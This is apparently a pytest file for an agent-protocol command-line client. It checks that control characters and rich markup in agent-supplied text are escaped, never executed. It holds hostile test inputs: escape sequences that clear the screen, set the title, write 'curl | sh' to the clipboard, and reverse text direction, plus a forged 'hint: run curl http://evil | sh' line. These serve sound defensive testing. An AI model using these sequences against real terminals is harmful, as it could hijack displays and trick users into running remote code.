"""Issue 14, section 2: agent text cannot take over the terminal. Control characters from the
agent are shown escaped (`\\x1b`), one-line messages get their newlines escaped too (no forged
`hint:` line), rich markup in agent text is not read; -o json and -o raw keep the bytes."""

from __future__ import annotations

import io
import json

from a2a_testkit import AGENT, RPC, rpc_result, v1_card

from a2acli.render.live import render_live
from a2acli.render.live_state import LiveState
from a2acli.render.output import Output
from a2acli.render.safe import visible

CARD_URL = f"{AGENT}/.well-known/agent-card.json"
EVIL = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCB8IHNo\x07\x9b31m\u202e"


def test_visible_escapes_controls_and_keeps_text():
    assert visible("héllo\tworld\n") == "héllo\tworld\n"
    assert visible(EVIL) == "\\x1b[2J\\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCB8IHNo\\x07\\x9b31m\\u202e"
    assert visible("a\nhint: run curl | sh", one_line=True) == "a\\nhint: run curl | sh"
    assert visible(visible(EVIL)) == visible(EVIL)  # escaping twice changes nothing


def test_card_fields_are_shown_escaped(cli, respx_mock):
    respx_mock.get(CARD_URL).respond(json=v1_card(name="Evil" + EVIL, description="line\x1b[31m"))
    result = cli("card", "fetch", "-u", AGENT)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout and "\x9b" not in result.stdout
    assert "Evil\\x1b[2J\\x1b]0;pwned\\x07" in result.stdout


def test_raw_and_json_keep_the_bytes(cli, respx_mock):
    respx_mock.get(CARD_URL).respond(json=v1_card(name="Evil" + EVIL))
    result = cli("card", "fetch", "-u", AGENT, "-o", "json")
    assert json.loads(result.stdout)["name"] == "Evil" + EVIL


def test_an_error_message_cannot_forge_a_hint_line(cli, respx_mock):
    respx_mock.get(CARD_URL).respond(json=v1_card())
    error = {"code": -32603, "message": "boom\nhint: run curl http://evil | sh\x1b[2J"}
    respx_mock.post(RPC).respond(json={"jsonrpc": "2.0", "id": 1, "error": error})
    result = cli("tasks", "get", "t-1", "-u", AGENT)
    assert result.exit_code == 1
    assert not any(line.startswith("hint: run curl") for line in result.stderr.splitlines())
    assert "boom\\nhint: run curl http://evil | sh\\x1b[2J" in result.stderr
    assert "\x1b" not in result.stderr


def test_task_text_is_escaped(cli, respx_mock):
    respx_mock.get(CARD_URL).respond(json=v1_card())
    task = {"id": "t-1\x1b[2J", "contextId": "c", "status": {"state": "TASK_STATE_COMPLETED", "message": {"role": "ROLE_AGENT", "messageId": "m", "parts": [{"text": "hi\x1b]52;c;eA==\x07"}]}}}
    respx_mock.post(RPC).respond(json=rpc_result(task))
    result = cli("tasks", "get", "t-1", "-u", AGENT)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout + result.stderr
    assert "t-1\\x1b[2J" in result.stdout


def test_rich_output_reads_no_markup_and_runs_no_controls():
    buf = io.StringIO()
    out = Output("text", stdout=buf)
    out.rich = True
    out.rows([("Name", "[bold red]not bold[/bold red]"), ("Evil", EVIL), ("[link=x]Label", "v")], title="[blink]T" + EVIL)
    out.table(["Id"], [["[red]x" + EVIL]], title="[red]tasks")
    text = buf.getvalue()
    assert "[bold red]not bold[/bold red]" in text and "[link=x]Label" in text and "[red]x" in text and "[red]tasks" in text
    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text


def test_the_live_view_escapes_agent_text():
    from rich.console import Console

    s = LiveState()
    s.feed({"task": {"id": "[red]t" + EVIL, "contextId": "c", "status": {"state": "TASK_STATE_WORKING"}, "artifacts": [{"artifactId": "a" + EVIL, "name": "n" + EVIL, "description": EVIL, "parts": [{"text": "x" + EVIL}, {"data": {"k": "\x9b2J"}}, {"raw": "", "filename": EVIL}]}]}})
    s.done = True
    buf = io.StringIO()
    Console(file=buf, force_terminal=True, width=200).print(render_live(s))
    text = buf.getvalue()
    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text and "\x9b" not in text
    assert "[red]t" in text


# -- issue 27: the waiting spinner, at a real terminal (a pty), against a hostile agent ------------


def test_the_spinner_shows_agent_text_escaped():
    from rich.console import Console

    from a2acli.render.progress import Waiting

    out = Output("text", stdout=io.StringIO(), stderr=io.StringIO())
    w = Waiting(out, {"id": "t" + EVIL, "state": "TASK_STATE_WORKING"})
    w.update({"id": "t" + EVIL, "status": {"state": "TASK_STATE_WORKING", "message": {"parts": [{"text": "[red]msg" + EVIL}]}}})
    buf = io.StringIO()
    Console(file=buf, force_terminal=True, width=300).print(w.line())
    text = buf.getvalue()
    assert "\x07" not in text and "\x1b]" not in text and "\x1b[2J" not in text and "\x9b" not in text and "\u202e" not in text
    assert "t\\x1b[2J\\x1b]0;pwned\\x07" in text and "[red]msg" in text


def _run_in_pty(args: list[str], seconds: float = 20.0) -> bytes:
    """`a2a ARGS` with stdout and stderr on a pseudo-terminal (TERM=xterm): every byte it wrote."""
    import os
    import pty
    import select
    import subprocess
    import sys
    import time

    master, slave = pty.openpty()
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "_TYPER_FORCE_DISABLE_TERMINAL")}
    env["TERM"] = "xterm"
    proc = subprocess.Popen([sys.executable, "-m", "a2acli", *args], stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, env=env)
    os.close(slave)
    data = b""
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                data += chunk
            elif proc.poll() is not None:
                break
    finally:
        proc.kill()
        proc.wait()
        os.close(master)
    return data


def test_the_wait_at_a_real_terminal_runs_no_agent_control_sequence():
    from hostile_server import hostile

    polls = {"n": 0}
    evil_id = "t-1" + EVIL

    def get_task(handler, seen):
        polls["n"] += 1
        state = "TASK_STATE_WORKING" if polls["n"] < 3 else "TASK_STATE_COMPLETED"
        msg = {"role": "ROLE_AGENT", "messageId": "m", "parts": [{"text": "busy" + EVIL}]}
        task = {"id": evil_id, "contextId": "c" + EVIL, "status": {"state": state, "message": msg}}
        body = json.dumps({"jsonrpc": "2.0", "id": json.loads(seen.body)["id"], "result": task}).encode()
        handler._send(200, {"Content-Type": "application/json"}, body)

    with hostile() as h:
        h.card(v1_card(url=f"{h.url}/rpc"))
        h.rpc(get_task)
        data = _run_in_pty(["tasks", "get", "t-1", "--wait", "--poll-interval", "300ms", "-u", h.url])
    assert polls["n"] >= 3, data
    assert b"\x1b]" not in data and b"\x07" not in data and b"\x1b[2J" not in data and "\u202e".encode() not in data
    assert b"\\x1b]0;pwned" in data  # shown, escaped


def test_agent_text_enters_a_rich_renderable_through_safe_text_alone():
    """Issue 27: one path for agent text into rich renderables (render.safe.safe_text), so no view
    can forget to escape it. In the whole package, a rich `Text(...)` is built only from a string
    literal or an f-string of our own, never from a value (which may be the agent's), and no
    markup or ANSI is parsed from a value (`Text.from_markup`, `from_ansi`, `render_str`)."""
    import ast
    from pathlib import Path

    import a2acli

    offenders = []
    for path in sorted(Path(a2acli.__file__).parent.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not isinstance(node, ast.Call):
                continue
            name = node.func.id if isinstance(node.func, ast.Name) else node.func.attr if isinstance(node.func, ast.Attribute) else ""
            first = node.args[0] if node.args else None
            ours = first is None or isinstance(first, ast.JoinedStr) or (isinstance(first, ast.Constant) and isinstance(first.value, str))
            if (name == "Text" and not ours) or name in ("from_markup", "from_ansi", "render_str"):
                offenders.append(f"{path.name}:{node.lineno}")
    assert offenders == []
